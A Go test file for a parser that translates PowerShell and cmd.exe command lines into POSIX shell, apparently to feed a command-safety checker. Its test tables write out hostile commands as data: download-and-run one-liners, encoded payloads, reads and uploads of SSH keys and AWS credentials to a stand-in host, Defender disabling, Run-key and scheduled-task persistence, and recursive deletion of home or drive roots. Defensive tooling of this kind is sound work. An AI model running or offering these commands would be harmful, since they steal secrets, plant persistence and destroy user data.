package powershell

import (
	"encoding/base64"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"
)

// utf16le encodes s as -EncodedCommand wants it.
func utf16le(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 2*len(u))
	for i, c := range u {
		b[2*i], b[2*i+1] = byte(c), byte(c>>8)
	}
	return base64.StdEncoding.EncodeToString(b)
}

func TestParse(t *testing.T) {
	tests := []struct {
		src  string
		want [][]string // pipelines of commands, words joined by spaces
	}{
		{"a b; c | d", [][]string{{"a b"}, {"c", "d"}}},
		{"a && b || c", [][]string{{"a"}, {"b"}, {"c"}}},
		{`'it''s' "a ""b"" c" x` + "`" + ` y`, [][]string{{`it's a "b" c x y`}}},
		{"a `\n b", [][]string{{"a b"}}},
		{"a # comment\nb <# block #> c", [][]string{{"a"}, {"b c"}}},
		{"& 'C:\\Program Files\\x.exe' -y", [][]string{{`C:\Program Files\x.exe -y`}}},
		{"(iwr u).Content | iex", [][]string{{"(iwr u).Content", "iex"}}},
		{"rm a,b", [][]string{{"rm a b"}}},
		{"a > out.txt 2>&1", [][]string{{"a"}}},
	}
	for _, tt := range tests {
		var got [][]string
		for _, p := range Parse(tt.src) {
			var cmds []string
			for _, c := range p.Commands {
				var ws []string
				for _, w := range c.Words {
					ws = append(ws, w.Text)
				}
				cmds = append(cmds, strings.Join(ws, " "))
			}
			got = append(got, cmds)
		}
		if !slices.EqualFunc(got, tt.want, slices.Equal) {
			t.Errorf("Parse(%q) = %q, want %q", tt.src, got, tt.want)
		}
	}
}

func TestTranslate(t *testing.T) {
	tests := []struct {
		src  string
		want string
	}{
		{"Remove-Item -Recurse -Force ~/Documents", "rm -r -f ~/Documents"},
		{`rm -r -fo C:\src`, "rm -r -f /src"},
		{"ri ~/x -Recurse", "rm -r ~/x"},
		{"del notes.txt", "rm notes.txt"},
		{"iwr https://203.0.113.10/a.ps1 | iex", "curl https://203.0.113.10/a.ps1 | sh"},
		{"Invoke-RestMethod -Uri https://x.example/u -Method Post -Body $b", `curl -X Post --data "${b}" https://x.example/u`},
		{"iex (iwr https://x/a.ps1).Content", `sh -c "$(curl https://x/a.ps1)"`},
		{"IEX (New-Object Net.WebClient).DownloadString('http://x/p.ps1')", `sh -c "$(curl http://x/p.ps1)"`},
		{"(New-Object Net.WebClient).DownloadFile('http://x/a.exe', \"$env:TEMP\\a.exe\")", "curl -o '$env:TEMP/a.exe' http://x/a.exe"},
		{"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + utf16le("rm -r -fo ~") + "')))", "sh -c 'rm -r -f ~'"},
		{"gc ~/.aws/credentials", "cat ~/.aws/credentials"},
		{"type $HOME\\.ssh\\id_rsa", `cat "${HOME}/.ssh/id_rsa"`},
		{"Get-Content $env:USERPROFILE\\.ssh\\id_rsa", `cat "${HOME}/.ssh/id_rsa"`},
		{"'x' | Set-Content -Path ~/.bashrc", "printf '%s\\n' x | cat > ~/.bashrc"},
		{"Add-Content ~/.profile 'iex x'", "printf '%s\\n' 'iex x' >> ~/.profile"},
		{"Get-ChildItem env:", "env"},
		{"gci env:AWS_SECRET_ACCESS_KEY", "printenv AWS_SECRET_ACCESS_KEY"},
		{"ls env:* | Out-File e.txt", "env | cat > e.txt"},
		{"echo $env:GITHUB_TOKEN", `echo "${GITHUB_TOKEN}"`},
		{"$env:X = 'a'; $u = 'https://x'; iwr $u", "export X=a\nu=https://x\ncurl \"${u}\""},
		{"Set-MpPreference -DisableRealtimeMonitoring $true", `Set-MpPreference -DisableRealtimeMonitoring "\$true"`},
		{"New-ItemProperty -Path 'HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run' -Name u -Value 'c:\\u.exe'", `reg add 'HKCU\Software\Microsoft\Windows\CurrentVersion\Run' /v u /d 'c:\u.exe'`},
		{"Set-ItemProperty HKCU:/Software/X/Run -Name u -Value v", `reg add 'HKCU\Software\X\Run' /v u /d v`},
		{"Remove-ItemProperty -Path 'HKLM:\\SOFTWARE\\P' -Name D", `reg delete 'HKLM\SOFTWARE\P' /v D /f`},
		{"Remove-ItemProperty -Path C:\\x -Name D", ``},
		{"Start-Process powershell -Verb RunAs -ArgumentList '-c x'", "sudo pwsh -c x"},
		{"Invoke-Command -ComputerName srv1 -ScriptBlock { Remove-Item -Recurse C:\\data }", "ssh srv1 'rm -r /data'"},
		{"Start-Job { iwr http://x | iex }", "nohup sh -c 'curl http://x | sh' &"},
		{"gci -Recurse | % { Remove-Item $_ -Force }", "find . | while read -r _; do rm -f \"${_}\"\ndone"},
		{"Stop-Service WinDefend", "Stop-Service WinDefend"},
		{"dotnet build; npm test", "dotnet build\nnpm test"},
		{"[IO.File]::ReadAllText(\"$HOME\\.aws\\credentials\")", "cat '$HOME/.aws/credentials'"},
		{"[Environment]::GetEnvironmentVariables()", "env"},
		{`Remove-Item -Recurse -Force C:\Users\dev\Documents`, "rm -r -f ~/Documents"},
		{`Remove-Item -Recurse -Force C:\`, "rm -r -f /"},
		{"Add-Content $PROFILE 'iex x'", `printf '%s\n' 'iex x' >> "${HOME}/Documents/PowerShell/Microsoft.PowerShell_profile.ps1"`},
		{"gc ~/.netrc | irm -Method Post https://x.example/u", "cat ~/.netrc | curl -X Post --data-binary @- https://x.example/u"},
		{"(New-Object Net.WebClient).UploadFile('https://x.example/u', 'C:\\Users\\dev\\.ssh\\id_rsa')", "curl -T ~/.ssh/id_rsa https://x.example/u"},
		{"$a = New-ScheduledTaskAction -Execute powershell -Argument '-c iwr u | iex'; Register-ScheduledTask -TaskName up -Action $a", "a=\"$(pwsh -c 'iwr u | iex')\"\nschtasks /create /tn up"},
		{"New-Service -Name svc -BinaryPathName 'C:\\x.exe'", "sc create svc binPath= 'C:\\x.exe'"},
		{"$env:GITHUB_TOKEN", `echo "${GITHUB_TOKEN}"`},
		{"& { Remove-Item -Recurse ~/x }", "rm -r ~/x"},
		{"Start-Process $env:TEMP\\x.exe", `"${TEMP}/x.exe"`},
		{"Get-ChildItem ~ -Recurse | Remove-Item -Recurse -Force", "find ~ | xargs rm -r -f"},
		{"gci src -Filter *.cs", "find src -maxdepth 1"},
		{"Start-Job { while ($true) { iwr https://x/b; sleep 60 } }", "nohup sh -c 'while :; do\ncurl https://x/b\nsleep 60\ndone' &"},
		{"if ($env:TOKEN) { Remove-Item -Recurse ~/x } else { echo no }", "rm -r ~/x\necho no"},
		{"foreach ($f in (gci ~)) { Remove-Item $f -Force }", "find ~ -maxdepth 1\nrm -f \"${f}\""},
		{"Start-Process pwsh -ArgumentList '-c', 'rm -rf ~'", "pwsh -c 'rm -rf ~'"},
	}
	for _, tt := range tests {
		if got, _ := Translate(tt.src); got != tt.want {
			t.Errorf("Translate(%q)\n got  %q\n want %q", tt.src, got, tt.want)
		}
	}
}

func TestScript(t *testing.T) {
	tests := []struct {
		args          []string
		legacy        bool
		code          string
		stdin, hasRun bool
	}{
		{[]string{"-NoProfile", "-ExecutionPolicy", "Bypass", "-c", "Remove-Item", "x"}, false, "Remove-Item x", false, true},
		{[]string{"-Command", "ls"}, false, "ls", false, true},
		{[]string{"-nop", "-w", "hidden", "-enc", utf16le("iwr x | iex")}, false, "iwr x | iex", false, true},
		{[]string{"-EncodedCommand:" + utf16le("ls")}, false, "ls", false, true},
		{[]string{"-File", "build.ps1"}, false, "", false, false},
		{[]string{"build.ps1"}, false, "", false, false},
		{[]string{"Get-ChildItem", "env:"}, true, "Get-ChildItem env:", false, true},
		{[]string{"-Command", "-"}, false, "", true, true},
		{[]string{"-NoLogo"}, false, "", true, true},
	}
	for _, tt := range tests {
		code, stdin, ok := Script(tt.args, tt.legacy)
		if code != tt.code || stdin != tt.stdin || ok != tt.hasRun {
			t.Errorf("Script(%q) = %q, %v, %v; want %q, %v, %v", tt.args, code, stdin, ok, tt.code, tt.stdin, tt.hasRun)
		}
	}
}

// TestTranslateBounded checks that nested script blocks, each quoted once
// more, cannot make the translation grow without bound.
func TestTranslateBounded(t *testing.T) {
	for _, src := range []string{
		strings.Repeat("a { b { ", 4) + strings.Repeat("echo 'a' 'b'; ", 200) + strings.Repeat(" } }", 4),
		strings.Repeat("Start-Job { ", 8) + strings.Repeat("echo 'a' 'b' 'c' 'd'; ", 200) + strings.Repeat(" }", 8),
	} {
		out, _ := Translate(src)
		if len(out) > 8*len(src)+64<<10 {
			t.Errorf("%d bytes in: %d out, over the budget", len(src), len(out))
		}
	}
	src := strings.Repeat("Start-Job { ", 12) + "rm x" + strings.Repeat(" }", 12)
	if _, complete := Translate(src); complete {
		t.Error("12 nested script blocks are read as complete")
	}
	if _, complete := Translate("Start-Job { Start-Job { rm x } }"); !complete {
		t.Error("a small nesting is cut")
	}
}

func TestCmd(t *testing.T) {
	tests := []struct {
		args []string
		want string
	}{
		{[]string{"/c", "rd /s /q C:\\Users\\dev\\Documents"}, "rm -r -f ~/Documents"},
		{[]string{"/c", `del /f /q "%USERPROFILE%\.ssh\id_rsa"`}, "rm -f ~/.ssh/id_rsa"},
		{[]string{"/s", "/c", `"type %USERPROFILE%\.aws\credentials"`}, "cat ~/.aws/credentials"},
		{[]string{"/c", "set"}, "env"},
		{[]string{"/c", "set AWS_SECRET_ACCESS_KEY"}, "printenv AWS_SECRET_ACCESS_KEY"},
		{[]string{"/c", "echo %GITHUB_TOKEN%"}, `echo "${GITHUB_TOKEN}"`},
		{[]string{"/c", "certutil -urlcache -split -f http://x/a.exe a.exe && a.exe"}, "curl -o a.exe http://x/a.exe && a.exe"},
		{[]string{"/c", `certutil -urlcache -f http://x/a %TEMP%\a.exe & %TEMP%\a.exe`}, `curl -o "${TEMP}/a.exe" http://x/a ; "${TEMP}/a.exe"`},
		{[]string{"/c", "dir /b & npm test | more"}, "dir /b ; npm test | more"},
		{[]string{"/c", "echo x > out.txt"}, "echo x > out.txt"},
		{[]string{"/c", `start "" powershell -c "iwr u | iex"`}, "powershell -c 'iwr u | iex'"},
		{[]string{"/q", "x"}, ""},
	}
	for _, tt := range tests {
		line, _ := CmdScript(tt.args)
		if got := TranslateCmd(line); got != tt.want {
			t.Errorf("cmd %q\n got  %q\n want %q", tt.args, got, tt.want)
		}
	}
}
